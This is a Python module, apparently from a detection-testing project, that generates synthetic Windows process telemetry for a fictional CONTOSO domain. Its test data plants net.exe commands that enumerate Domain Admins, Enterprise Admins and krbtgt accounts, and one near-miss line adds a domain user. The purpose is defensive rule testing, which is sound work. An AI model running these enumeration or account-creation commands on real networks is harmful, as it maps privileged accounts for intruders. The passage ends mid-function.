"""Realistic synthetic Windows process telemetry, generated fast and deterministically.

Two entry points:

``normalized_process_events(n, seed=0, match_rate=0.01)``
    A pyarrow table shaped like ASIM ``imProcessCreate`` output: every column of the ASIM process-event schema
    (``AdditionalFields``, a dynamic bag no parser fills, is left out), Kusto types mapped to Arrow as
    string -> ``string`` (never null: ``''``), datetime -> ``timestamp[us]`` (naive, UTC), int -> ``int32``,
    long -> ``int64``, bool -> ``bool``. Rows come from three sources as the ASIM parsers shape them
    (Security Events 4688, Sysmon EID 1 via the ``Event`` table, Microsoft Defender for Endpoint), with realistic
    command lines. A fraction ``match_rate`` of the rows are *planted* ``net.exe`` user/group enumerations that the
    seed rule matches; as many more are planted near misses the rule must reject. The numbers are in the schema
    metadata (``kqlhunt.synth.matches``, ``kqlhunt.synth.near_misses``); :data:`PLANTED` lists the variants.
    Columns are vectorized (numpy + pyarrow); the table is made of chunks of at most ``CHUNK_ROWS`` rows, and
    columns that are constant share one buffer across chunks, so 10M rows fit in a few GB.

``sentinel_tables(seed=0)``
    A small raw workspace: ``SecurityEvent`` (4688 process creation, EventData split into columns as the
    connector does) and ``Event`` (Sysmon EID 1 through the Log Analytics agent, ``EventData`` as the
    ``<DataItem>...<EventData><Data Name="X">v</Data>...`` XML string), a few hours of a small organisation with a
    few attacks in it. Column names and types follow Azure Monitor's table reference; string -> string (``''``,
    never null), datetime -> timestamp, int -> int32, long -> int64, dynamic -> JSON text.

Both are deterministic for a given seed (and, for the first, a given ``n``).
"""

from __future__ import annotations

import hashlib
import json
import re
import zlib
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from datetime import datetime, timedelta

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc

__all__ = [
    "CHUNK_ROWS",
    "PLANTED",
    "ASIM_PROCESS_COLUMNS",
    "RULE_COLUMNS",
    "normalized_process_events",
    "sentinel_tables",
]

CHUNK_ROWS = 1 << 20
DOMAIN = "CONTOSO"
DNS_DOMAIN = "contoso.local"
TENANT_ID = "5f1c8a3e-2b7d-4c19-9e0a-6d2f4b8c1a77"
WORKSPACE_ID = "b6a1f0d2-93c4-4e58-8a7b-1c0e2d3f4a5b"
SUBSCRIPTION = "0d3c2b1a-9f8e-4d7c-6b5a-493827160504"
#: Events are laid out over the 7 days before this instant (UTC), so output does not depend on the clock.
ANCHOR = datetime(2025, 3, 14, 0, 0, 0)

# --------------------------------------------------------------------------------------------------------------
# Schema
# --------------------------------------------------------------------------------------------------------------

_SCHEMA_SPEC = """
TimeGenerated:datetime Type:string _ResourceId:string EventCount:int EventStartTime:datetime EventEndTime:datetime
EventType:string EventSubType:string EventResult:string EventResultDetails:string EventOriginalResultDetails:string
EventSeverity:string EventOriginalSeverity:string EventUid:string EventOriginalUid:string EventOriginalType:string
EventOriginalSubType:string EventMessage:string EventProduct:string EventProductVersion:string EventVendor:string
EventSchema:string EventSchemaVersion:string EventReportUrl:string EventOwner:string Dvc:string DvcIpAddr:string
DvcHostname:string DvcDomain:string DvcDomainType:string DvcFQDN:string DvcId:string DvcIdType:string DvcAction:string
DvcOriginalAction:string DvcMacAddr:string DvcOs:string DvcOsVersion:string DvcZone:string DvcInterface:string
DvcDescription:string DvcScope:string DvcScopeId:string User:string Process:string CommandLine:string Hash:string
HashType:string ActorUserId:string ActorUserIdType:string ActorUserSid:string ActorUserAadId:string ActorUserUpn:string
ActorUsername:string ActorUsernameType:string ActorScope:string ActorScopeId:string ActorSessionId:string
ActorUserType:string ActorOriginalUserType:string ActingProcessCommandLine:string ActingProcessName:string
ActingProcessFilename:string ActingProcessFileCompany:string ActingProcessFileDescription:string
ActingProcessFileProduct:string ActingProcessFileVersion:string ActingProcessFileInternalName:string
ActingProcessFileOriginalName:string ActingProcessFileSize:long ActingProcessIsHidden:bool
ActingProcessInjectedAddress:string ActingProcessId:string ActingProcessGuid:string ActingProcessIntegrityLevel:string
ActingProcessMD5:string ActingProcessSHA1:string ActingProcessSHA256:string ActingProcessSHA512:string
ActingProcessIMPHASH:string ActingProcessCreationTime:datetime ActingProcessTokenElevation:string
ParentProcessName:string ParentProcessFileCompany:string ParentProcessFileDescription:string
ParentProcessFileProduct:string ParentProcessFileVersion:string ParentProcessIsHidden:bool
ParentProcessInjectedAddress:string ParentProcessId:string ParentProcessGuid:string ParentProcessIntegrityLevel:string
ParentProcessMD5:string ParentProcessSHA1:string ParentProcessSHA256:string ParentProcessSHA512:string
ParentProcessIMPHASH:string ParentProcessTokenElevation:string ParentProcessCreationTime:datetime
TargetUsername:string TargetUsernameType:string TargetUserId:string TargetUserIdType:string TargetUserSid:string
TargetUserAadId:string TargetUserUpn:string TargetUserSessionId:string TargetUserSessionGuid:string
TargetUserType:string TargetOriginalUserType:string TargetUserScope:string TargetUserScopeId:string
TargetProcessName:string TargetProcessFilename:string TargetProcessFileCompany:string
TargetProcessFileDescription:string TargetProcessFileProduct:string TargetProcessFileSize:long
TargetProcessFileVersion:string TargetProcessFileInternalName:string TargetProcessFileOriginalName:string
TargetProcessIsHidden:bool TargetProcessInjectedAddress:string TargetProcessMD5:string TargetProcessSHA1:string
TargetProcessSHA256:string TargetProcessSHA512:string TargetProcessIMPHASH:string TargetProcessCommandLine:string
TargetProcessCurrentDirectory:string TargetProcessCreationTime:datetime TargetProcessId:string
TargetProcessGuid:string TargetProcessIntegrityLevel:string TargetProcessTokenElevation:string
TargetProcessStatusCode:string RuleName:string RuleNumber:int Rule:string ThreatId:string ThreatName:string
ThreatCategory:string ThreatRiskLevel:int ThreatOriginalRiskLevel:string ThreatField:string ThreatConfidence:int
ThreatOriginalConfidence:string ThreatIsActive:bool ThreatFirstReportedTime:datetime ThreatLastReportedTime:datetime
"""

_ARROW = {
    "string": pa.string(),
    "datetime": pa.timestamp("us"),
    "int": pa.int32(),
    "long": pa.int64(),
    "bool": pa.bool_(),
    "real": pa.float64(),
    "dynamic": pa.string(),  # JSON text
    "guid": pa.string(),
}

#: (name, Kusto type) of every column of :func:`normalized_process_events`, in order.
ASIM_PROCESS_COLUMNS: list[tuple[str, str]] = [
    (c.split(":")[0], c.split(":")[1]) for c in _SCHEMA_SPEC.split()
]
_TYPES = dict(ASIM_PROCESS_COLUMNS)

#: The columns that the ASIM process rules in Azure-Sentinel read (plus the mandatory event fields); pass
#: ``columns=RULE_COLUMNS`` for a narrower, lighter table.
RULE_COLUMNS: list[str] = """
TimeGenerated Type _ResourceId EventCount EventStartTime EventEndTime EventType EventResult EventProduct EventVendor
EventSchema EventSchemaVersion EventOriginalType Dvc DvcIpAddr DvcHostname DvcDomain DvcId DvcOs User Process
CommandLine Hash HashType ActorUserId ActorUsername ActingProcessCommandLine ActingProcessName ActingProcessFilename
ActingProcessId ActingProcessSHA256 ParentProcessName ParentProcessId TargetUsername TargetProcessName
TargetProcessFilename TargetProcessSHA256 TargetProcessCommandLine TargetProcessId ThreatName
""".split()

# --------------------------------------------------------------------------------------------------------------
# Small vectorized helpers
# --------------------------------------------------------------------------------------------------------------

_HEX = np.frombuffer(b"0123456789abcdef", dtype=np.uint8)


def _fixed_width(chars: np.ndarray) -> pa.Array:
    """(n, w) uint8 ASCII matrix -> pyarrow string array of n strings of width w (zero-copy layout)."""
    n, w = chars.shape
    offsets = np.arange(0, (n + 1) * w, w, dtype=np.int32)
    data = np.ascontiguousarray(chars, dtype=np.uint8)
    return pa.StringArray.from_buffers(n, pa.py_buffer(offsets), pa.py_buffer(data))


_HEX2 = np.array([ord(a) | (ord(b) << 8) for a in "0123456789abcdef" for b in "0123456789abcdef"], dtype=np.uint16)


def _hex_chars(rng: np.random.Generator, n: int, nbytes: int) -> np.ndarray:
    raw = np.frombuffer(rng.bytes(n * nbytes), dtype=np.uint8).reshape(n, nbytes)
    return _HEX2[raw].view(np.uint8).reshape(n, nbytes * 2)


def _guids(rng: np.random.Generator, n: int, braces: bool = False) -> pa.Array:
    h = _hex_chars(rng, n, 16)
    off = 1 if braces else 0
    out = np.empty((n, 36 + 2 * off), dtype=np.uint8)
    if braces:
        out[:, 0], out[:, -1] = ord("{"), ord("}")
    for a, b, o in ((0, 8, 0), (8, 12, 9), (12, 16, 14), (16, 20, 19), (20, 32, 24)):
        out[:, off + o: off + o + b - a] = h[:, a:b]
    for o in (8, 13, 18, 23):
        out[:, off + o] = ord("-")
    return _fixed_width(out)


def _int_strings(values: np.ndarray) -> pa.Array:
    return pc.cast(pa.array(values, type=pa.int64()), pa.string())


def _take(values: list[str] | pa.Array, idx: np.ndarray) -> pa.Array:
    arr = values if isinstance(values, pa.Array) else pa.array(values, type=pa.string())
    return arr.take(pa.array(idx, type=pa.int32()))


def _where(mask: np.ndarray, a: pa.Array | str, b: pa.Array | str) -> pa.Array:
    if isinstance(a, str):
        a = pa.scalar(a, pa.string())
    if isinstance(b, str):
        b = pa.scalar(b, pa.string())
    return pc.if_else(pa.array(mask, type=pa.bool_()), a, b)


def _join(*parts: pa.Array | str) -> pa.Array:
    return pc.binary_join_element_wise(*parts, "")


def _digest(kind: str, text: str) -> str:
    return hashlib.new(kind, ("kqlhunt-synth:" + text).encode()).hexdigest()


def _weighted(rng: np.random.Generator, weights: np.ndarray, n: int) -> np.ndarray:
    cdf = np.cumsum(weights, dtype=np.float64)
    cdf /= cdf[-1]
    return np.searchsorted(cdf, rng.random(n), side="right").astype(np.int32).clip(0, len(weights) - 1)


# --------------------------------------------------------------------------------------------------------------
# The organisation: users and hosts
# --------------------------------------------------------------------------------------------------------------

_FIRST = (
    "alice bob carol dave erin frank grace heidi ivan judy mallory nina oscar peggy quentin rupert sybil trent "
    "ursula victor walter xena yusuf zoe amir bianca chen diego elena farah gustav hana igor jamal kenji lena "
    "marco noor olga pavel rosa samir tara umar vera wen ximena yara zain"
).split()
_LAST = "smith garcia chen mueller rossi novak tanaka okafor silva kowalski".split()


def _users() -> list[str]:
    users = list(_FIRST)
    users += [f"{f}.{l}" for l in _LAST for f in _FIRST]
    return users


USERS = _users()
ADMINS = ["admin.alice", "admin.bob", "svc_backup", "svc_sccm", "helpdesk01"]
_SERVERS = ["DC01", "DC02", "FS01", "SQL01", "SQL02", "WEB01", "EXCH01", "BUILD01", "APP01", "APP02", "CA01", "JUMP01"]


def _hosts(n_ws: int) -> list[str]:
    return _SERVERS + [f"WKS-{i:04d}" for i in range(1, n_ws + 1)]


def _sid(rid: int) -> str:
    return f"S-1-5-21-3623811015-3361044348-30300820-{rid}"


# --------------------------------------------------------------------------------------------------------------
# Process catalog: program -> image, parent, command line templates
# --------------------------------------------------------------------------------------------------------------

SYS32 = "C:\\Windows\\System32\\"
_CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
_EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
_PS = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
_GIT = "C:\\Program Files\\Git\\cmd\\git.exe"
_PY = "C:\\Users\\{user}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"


@dataclass(frozen=True)
class _Prog:
    image: str
    parent: str
    parent_cmd: str
    cmds: tuple[str, ...]
    weight: float
    runs_as: str = "user"  # user | system | admin
    company: str = "Microsoft Corporation"
    description: str = ""
    product: str = "Microsoft\u00ae Windows\u00ae Operating System"
    version: str = "10.0.19041.1 (WinBuild.160101.0800)"
    integrity: str = "Medium"


def _p(image, parent, parent_cmd, cmds, weight, **kw) -> _Prog:
    return _Prog(image, parent, parent_cmd, tuple(cmds), weight, **kw)


_EXPLORER = "C:\\Windows\\explorer.exe"
_SERVICES = SYS32 + "services.exe"
_CMD = SYS32 + "cmd.exe"

_PROGRAMS: list[_Prog] = [
    _p(SYS32 + "svchost.exe", _SERVICES, SYS32 + "services.exe", [
        SYS32 + "svchost.exe -k netsvcs -p -s Schedule",
        SYS32 + "svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog",
        SYS32 + "svchost.exe -k DcomLaunch -p",
        SYS32 + "svchost.exe -k UnistackSvcGroup -s CDPUserSvc",
        SYS32 + "svchost.exe -k wsappx -p -s AppXSvc",
        SYS32 + "svchost.exe -k netsvcs -p -s gpsvc",
        SYS32 + "svchost.exe -k LocalSystemNetworkRestricted -p -s SysMain",
        SYS32 + "svchost.exe -k NetworkService -p -s Dnscache",
    ], 12, runs_as="system", description="Host Process for Windows Services", integrity="System"),
    _p(_CHROME, _CHROME, '"' + _CHROME + '"', [
        '"' + _CHROME + '" --type=renderer --display-capture-permissions-policy-allowed --lang=en-US '
        '--device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation '
        '--renderer-client-id={n} --time-ticks-at-unix-epoch=-1709876543210000 --field-trial-handle=1960,i,{n},'
        '131072 /prefetch:1',
        '"' + _CHROME + '" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US '
        '--service-sandbox-type=none --mojo-platform-channel-handle={n} --field-trial-handle=1960,i,'
        '8372615120483712,131072 /prefetch:3',
        '"' + _CHROME + '" --type=gpu-process --gpu-preferences=WAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAA4AAAA '
        '--mojo-platform-channel-handle={n} --field-trial-handle=1960,i,8372615120483712,131072 /prefetch:2',
        '"' + _CHROME + '" --type=crashpad-handler "--user-data-dir=C:\\Users\\{user}\\AppData\\Local\\Google'
        '\\Chrome\\User Data" /prefetch:4 --monitor-self-annotation=ptype=crashpad-handler',
    ], 15, company="Google LLC", description="Google Chrome", product="Google Chrome", version="122.0.6261.112"),
    _p(_EDGE, _EDGE, '"' + _EDGE + '"', [
        '"' + _EDGE + '" --type=renderer --instant-process --lang=en-US --js-flags=--ms-user-locale= '
        '--renderer-client-id={n} --mojo-platform-channel-handle=4120 --field-trial-handle=2064,i,'
        '1184325923,262144 /prefetch:1',
        '"' + _EDGE + '" --type=utility --utility-sub-type=storage.mojom.StorageService --lang=en-US '
        '--service-sandbox-type=service --mojo-platform-channel-handle={n} /prefetch:8',
    ], 6, description="Microsoft Edge", product="Microsoft Edge", version="122.0.2365.80"),
    _p(_PS, _EXPLORER, _EXPLORER, [
        '"' + _PS + '" -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\Inventory.ps1',
        'powershell.exe -NoLogo -NonInteractive -Command "Get-Service | Where-Object {$_.Status -eq \'Running\'}"',
        '"' + _PS + '" -ExecutionPolicy Restricted -Command Write-Host \'Final result: 1\';',
        'powershell.exe -NoProfile -Command "Get-ChildItem -Path C:\\Users\\{user}\\Downloads | Measure-Object"',
        '"' + _PS + '" ',
    ], 3, description="Windows PowerShell"),
    _p(_CMD, _EXPLORER, _EXPLORER, [
        _CMD + ' /c "C:\\Users\\{user}\\AppData\\Local\\Temp\\build_{n}.bat"',
        "cmd.exe /c echo %PROCESSOR_ARCHITECTURE%",
        _CMD + ' /d /s /c "git rev-parse --abbrev-ref HEAD"',
        "cmd /c dir /b C:\\Users\\{user}\\Documents",
        "cmd.exe /c ping -n 1 dc01.contoso.local",
        "cmd /c whoami",
        '"' + _CMD + '" ',
    ], 4, description="Windows Command Processor"),
    _p(SYS32 + "conhost.exe", _CMD, "cmd.exe /c echo %PROCESSOR_ARCHITECTURE%", [
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
        SYS32 + "conhost.exe 0x4",
    ], 6, description="Console Window Host"),
    _p(SYS32 + "msiexec.exe", _SERVICES, SYS32 + "services.exe", [
        SYS32 + "msiexec.exe /V",
        '"C:\\Windows\\System32\\msiexec.exe" /i "C:\\Users\\{user}\\Downloads\\GoogleChromeStandaloneEnterprise64.msi" /qn',
        "C:\\Windows\\syswow64\\MsiExec.exe -Embedding 5A{n}C1E2F6D0A1 C",
    ], 1, runs_as="system", description="Windows\u00ae installer", version="5.0.19041.3636", integrity="System"),
    _p(_GIT, _CMD, 'cmd.exe /d /s /c "git status"', [
        '"' + _GIT + '" status --porcelain',
        "git.exe fetch origin --prune",
        '"C:\\Program Files\\Git\\mingw64\\bin\\git.exe" log -n 20 --oneline',
        "git  pull --rebase",
        "git config --global user.email {user}@contoso.com",
    ], 3, company="The Git Development Community", description="Git for Windows", product="Git",
       version="2.44.0.windows.1"),
    _p(_PY, _CMD, "cmd.exe", [
        '"' + _PY + '" -m pip install --user requests',
        "python.exe manage.py runserver 0.0.0.0:8000",
        "python -m pytest tests -q",
        '"' + _PY + '" C:\\Users\\{user}\\projects\\etl\\run.py --day 7',
    ], 2, company="Python Software Foundation", description="Python", product="Python", version="3.11.8"),
    _p(_EXPLORER, SYS32 + "userinit.exe", SYS32 + "userinit.exe", [_EXPLORER], 0.5, description="Windows Explorer"),
    _p(SYS32 + "RuntimeBroker.exe", SYS32 + "svchost.exe", SYS32 + "svchost.exe -k DcomLaunch -p", [
        SYS32 + "RuntimeBroker.exe -Embedding"], 4, description="Runtime Broker"),
    _p(SYS32 + "SearchProtocolHost.exe", SYS32 + "SearchIndexer.exe", SYS32 + "SearchIndexer.exe /Embedding", [
        '"' + SYS32 + 'SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} '
        '1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search '
        '4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon" '],
       4, runs_as="system", description="Microsoft Windows Search Protocol Host", integrity="System"),
    _p(SYS32 + "taskhostw.exe", SYS32 + "svchost.exe", SYS32 + "svchost.exe -k netsvcs -p -s Schedule", [
        "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", "taskhostw.exe KEYROAMING", "taskhostw.exe"],
       3, description="Host Process for Windows Tasks"),
    _p(SYS32 + "backgroundTaskHost.exe", SYS32 + "svchost.exe", SYS32 + "svchost.exe -k DcomLaunch -p", [
        '"' + SYS32 + 'backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider'], 2,
       description="Background Task Host"),
    _p("C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", _EXPLORER, _EXPLORER, [
        '"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
        '"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /updateInstalled /background'],
       2, description="Microsoft OneDrive", product="Microsoft OneDrive", version="24.030.0211.0002"),
    _p(_OFFICE + "OUTLOOK.EXE", _EXPLORER, _EXPLORER, ['"' + _OFFICE + 'OUTLOOK.EXE" ',
                                                       '"' + _OFFICE + 'OUTLOOK.EXE" /recycle'],
       2, description="Microsoft Outlook", product="Microsoft Outlook", version="16.0.17328.20162"),
    _p(_OFFICE + "WINWORD.EXE", _EXPLORER, _EXPLORER, [
        '"' + _OFFICE + 'WINWORD.EXE" /n "C:\\Users\\{user}\\Documents\\Q{n} report.docx" /o ""'],
       1.5, description="Microsoft Word", product="Microsoft Office", version="16.0.17328.20162"),
    _p(_OFFICE + "EXCEL.EXE", _EXPLORER, _EXPLORER, [
        '"' + _OFFICE + 'EXCEL.EXE" "C:\\Users\\{user}\\Downloads\\budget_{n}.xlsx"'],
       1.5, description="Microsoft Excel", product="Microsoft Office", version="16.0.17328.20162"),
    _p(SYS32 + "notepad.exe", _EXPLORER, _EXPLORER, [
        '"' + SYS32 + 'notepad.exe" C:\\Users\\{user}\\Desktop\\notes.txt', '"' + SYS32 + 'notepad.exe" '],
       1, description="Notepad"),
    _p("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MpCmdRun.exe",
       "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MsMpEng.exe",
       '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MsMpEng.exe"', [
        '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MpCmdRun.exe" SpyNetServiceDss '
        '-RestrictPrivileges -AccessKey 8C2B{n}F0 -Reason NotifyUser',
        '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MpCmdRun.exe" -wdenable'],
       2, runs_as="system", description="Microsoft Malware Protection Command Line Utility", integrity="System"),
    _p(SYS32 + "wbem\\WmiPrvSE.exe", SYS32 + "svchost.exe", SYS32 + "svchost.exe -k DcomLaunch -p", [
        SYS32 + "wbem\\wmiprvse.exe -secured -Embedding", SYS32 + "wbem\\wmiprvse.exe -Embedding"],
       3, runs_as="system", description="WMI Provider Host", integrity="System"),
    _p(SYS32 + "dllhost.exe", SYS32 + "svchost.exe", SYS32 + "svchost.exe -k DcomLaunch -p", [
        SYS32 + "DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
        SYS32 + "DllHost.exe /Processid:{973D20D7-562D-44B9-B70B-5A0F49CCDF3F}"], 2, description="COM Surrogate"),
    _p(SYS32 + "sc.exe", _CMD, "cmd.exe", ["sc.exe query wuauserv", "sc  queryex type= service state= all"],
       0.3, runs_as="admin", description="Service Control Manager Configuration Tool"),
    _p(SYS32 + "reg.exe", _CMD, "cmd.exe", [
        'reg.exe query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion" /v ProductName',
        "reg query HKCU\\Software\\Microsoft\\Office\\16.0\\Common\\General"], 0.3, description="Registry Console Tool"),
    _p(SYS32 + "ipconfig.exe", _CMD, "cmd.exe", ["ipconfig /all", "ipconfig  /flushdns"], 0.3,
       description="IP Configuration Utility"),
    _p(SYS32 + "whoami.exe", _CMD, "cmd.exe", ["whoami /groups", "whoami"], 0.2, description="whoami - displays logged on user information"),
    _p(SYS32 + "tasklist.exe", _CMD, "cmd.exe", ["tasklist /v /fo csv", "tasklist /svc"], 0.2, description="Lists the current running tasks"),
    _p(SYS32 + "gpupdate.exe", _CMD, "cmd.exe", ["gpupdate /force", "gpupdate /target:user"], 0.2, description="Microsoft\u00ae Windows\u00ae Group Policy Update Utility"),
    # net.exe that the seed rule must not match: logon scripts, admins.
    _p(SYS32 + "net.exe", _CMD, 'C:\\Windows\\system32\\cmd.exe /c "\\\\contoso.local\\NETLOGON\\logon.bat"', [
        SYS32 + "net.exe use Z: \\\\fs01.contoso.local\\shared /persistent:yes",
        "net use H: \\\\fs01.contoso.local\\home\\{user}",
        "net use",
        "net start",
        "net  session",
        "net time \\\\dc01 /set /y",
        "net localgroup administrators",
        "net user",
        "net user {user}",
        "net view /domain",
        "net accounts /domain",
        "net stop spooler",
    ], 1.5, description="Net Command"),
    _p(SYS32 + "net1.exe", SYS32 + "net.exe", "net start", [
        SYS32 + "net1  start", SYS32 + "net1 use", SYS32 + "net1 stop spooler"], 0.6, description="Net Command"),
]


@dataclass(frozen=True)
class Planted:
    """A planted seed-rule case: ``matches`` tells whether the seed rule (Kusto semantics) returns the row."""

    cmd: str
    image: str
    matches: bool
    why: str
    parent: str = _CMD
    no_actor: bool = False


_W64 = "C:\\Windows\\SysWOW64\\"

#: Planted seed-rule cases: matching ones first, then near misses. ``{user}`` is a sAMAccountName.
PLANTED: list[Planted] = [
    Planted('net group "Domain Admins" /domain', SYS32 + "net.exe", True, "group + quoted target"),
    Planted("net  user administrator /domain", SYS32 + "net.exe", True, "double space"),
    Planted("net.exe user /domain", SYS32 + "net.exe", True, "extract hits 'e user ' of net.exe"),
    Planted("net user {user} /domain", SYS32 + "net.exe", True, "target user"),
    Planted('net group "Enterprise Admins" /domain', SYS32 + "net.exe", True, "group"),
    Planted("net user {user} /domain /y", SYS32 + "net.exe", True, "hassuffix ' /domain' at a term end mid-line"),
    Planted("net user svc_backup /do", SYS32 + "net.exe", True, "hassuffix ' /do'"),
    Planted("NET USER Administrator /DOMAIN", SYS32 + "net.exe", True, "upper case"),
    Planted('net.exe group "Domain Computers" /domain', _W64 + "net.exe", True, "SysWOW64"),
    Planted('net group "Domain Controllers" /do', SYS32 + "net.exe", True, "group /do"),
    Planted('"net" user krbtgt /domain', SYS32 + "net.exe", True, "quoted program"),
    # near misses
    Planted("net user /domain", SYS32 + "net.exe", False, "extract finds no target"),
    Planted("net group /domain", SYS32 + "net.exe", False, "extract finds no target"),
    Planted("net user bob /add /domain", SYS32 + "net.exe", False, "/add"),
    Planted("C:\\Windows\\System32\\net.exe user /do", SYS32 + "net.exe", False, "backslash"),
    Planted("net1.exe user {user} /domain", SYS32 + "net1.exe", False, "net1.exe"),
    Planted('net group "Domain Admins" /domain', SYS32 + "net.exe", False, "empty ActorUsername", no_actor=True),
    Planted("net user administrator", SYS32 + "net.exe", False, "no /do suffix"),
    Planted("net user {user} /dom", SYS32 + "net.exe", False, "' /dom' is not ' /do' at a term end"),
    Planted("net user {user} /domains", SYS32 + "net.exe", False, "' /domain' not at a term end"),
    Planted("net localgroup administrators /domain", SYS32 + "net.exe", False, "no ' group '"),
    Planted("net users /domain", SYS32 + "net.exe", False, "no ' user '"),
    Planted("NET.EXE user {user} /domain", "C:\\Tools\\NET.EXE", False, "FileName == is case-sensitive"),
    Planted('powershell.exe -c "net user {user} /domain"', _PS, False, "process is powershell"),
    Planted("net user {user} /domain", "C:\\Users\\Public\\net.exe.bak", False, "FileName is net.exe.bak"),
]

_N_MATCH_VARIANTS = sum(p.matches for p in PLANTED)


class _Catalog:
    """Every (program, command line) pair plus the planted cases, as lookup tables indexed by catalog id
    (``entry``) or by ``entry * 4 + source`` for the columns whose value depends on the source."""

    def __init__(self) -> None:
        rows: list[dict] = []
        for prog in _PROGRAMS:
            for cmd in prog.cmds:
                rows.append(self._row(prog.image, cmd, prog.parent, prog.parent_cmd, prog, prog.weight / len(prog.cmds)))
        self.n_benign = len(rows)
        net = next(p for p in _PROGRAMS if p.image.endswith("\\net.exe"))
        for pl in PLANTED:
            prog = net if "\\net" in pl.image.lower() else _PROGRAMS[3]
            rows.append(self._row(pl.image, pl.cmd, pl.parent, "cmd.exe", prog, 0.0, planted=pl))
        self.rows = rows
        self.weights = np.array([r["weight"] for r in rows[: self.n_benign]])
        self.np_no_actor = np.array([r["no_actor"] for r in rows], dtype=bool)
        self.np_runs_as = np.array([r["runs_as"] for r in rows], dtype=np.int8)
        self.np_has_slot = {w: np.array([any(r[f"{w}_kinds"]) for r in rows]) for w in ("cmd", "image")}
        self.np_kind = {w: [np.array([r[f"{w}_kinds"][i] for r in rows], dtype=np.int8) for i in range(2)]
                        for w in ("cmd", "image")}
        t: dict[str, list[str]] = {}
        for w in ("cmd", "image"):
            t[w + "_static"] = [r[w] for r in rows]
            for i in range(3):
                t[f"{w}_lit{i}"] = [r[f"{w}_lits"][i] for r in rows]
        per_source: dict[str, list[str]] = {}
        for r in rows:
            for src in range(4):
                for k, v in self._source_values(r, src).items():
                    per_source.setdefault(k, []).append(v)
        t.update(per_source)
        self.tables = {k: pa.array(v, pa.string()) for k, v in t.items()}

    @staticmethod
    def _split(template: str) -> tuple[list[str], list[int]]:
        """'a{user}b{n}c' -> (['a','b','c'], [1, 2]); slot kinds: 0 none, 1 user, 2 number. Up to two slots."""
        pieces = re.split(r"(\{user\}|\{n\})", template)
        lits, kinds = pieces[0::2], [1 if x == "{user}" else 2 for x in pieces[1::2]]
        assert len(kinds) <= 2, template
        while len(kinds) < 2:
            lits.append("")
            kinds.append(0)
        return lits, kinds

    def _row(self, image, cmd, parent, parent_cmd, prog: _Prog, weight, planted: Planted | None = None) -> dict:
        lits, kinds = self._split(cmd)
        ilits, ikinds = self._split(image)
        base = image.rsplit("\\", 1)[-1]
        orig = base.upper() if base.lower() in ("net.exe", "net1.exe") else base
        return {
            "cmd": cmd, "cmd_lits": lits, "cmd_kinds": kinds,
            "image": image, "image_lits": ilits, "image_kinds": ikinds,
            "base": base, "parent": parent, "parent_cmd": parent_cmd, "parent_base": parent.rsplit("\\", 1)[-1],
            "original": orig,
            "company": prog.company, "description": prog.description, "product": prog.product,
            "version": prog.version, "integrity": prog.integrity if prog.runs_as != "admin" else "High",
            "runs_as": {"user": 0, "system": 1, "admin": 2}[prog.runs_as],
            "md5": _digest("md5", image), "sha1": _digest("sha1", image), "sha256": _digest("sha256", image),
            "imphash": _digest("md5", "imp" + base.lower()),
            "pmd5": _digest("md5", parent), "psha1": _digest("sha1", parent), "psha256": _digest("sha256", parent),
            "weight": weight,
            "planted": 0 if planted is None else (1 if planted.matches else 2),
            "no_actor": bool(planted and planted.no_actor),
        }

    @staticmethod
    def _source_values(r: dict, src: int) -> dict[str, str]:
        sec, sysm, mde = src == _SRC_SECURITY, src in (_SRC_SYSMON, _SRC_SYSMON_OLD), src == _SRC_MDE
        system, admin = r["runs_as"] == 1, r["runs_as"] == 2
        pick = lambda a, b, c: a if sec else (b if sysm else c)  # noqa: E731
        return {
            "Type": pick("SecurityEvent", "Event", "DeviceProcessEvents"),
            "EventProduct": pick("Security Events", "Sysmon", "M365 Defender for Endpoint"),
            "EventOriginalType": pick("4688", "1", "ProcessCreated"),
            "EventSchemaVersion": pick("0.1.3", "0.1.0", "0.1.0"),
            "TargetProcessFilename": pick("", r["original"], r["base"].lower()),
            "TargetProcessFileCompany": r["company"] if sysm else "",
            "TargetProcessFileDescription": r["description"] if sysm else "",
            "TargetProcessFileProduct": r["product"] if sysm else "",
            "TargetProcessFileVersion": r["version"] if sysm else "",
            "TargetProcessIntegrityLevel": "" if sec else r["integrity"],
            "TargetProcessTokenElevation": pick(
                "%%1936" if system else ("%%1937" if admin else "%%1938"), "",
                "TokenElevationTypeDefault" if (system or admin) else "TokenElevationTypeLimited"),
            "TargetProcessMD5": "" if sec else r["md5"],
            "TargetProcessSHA1": "" if sec else r["sha1"],
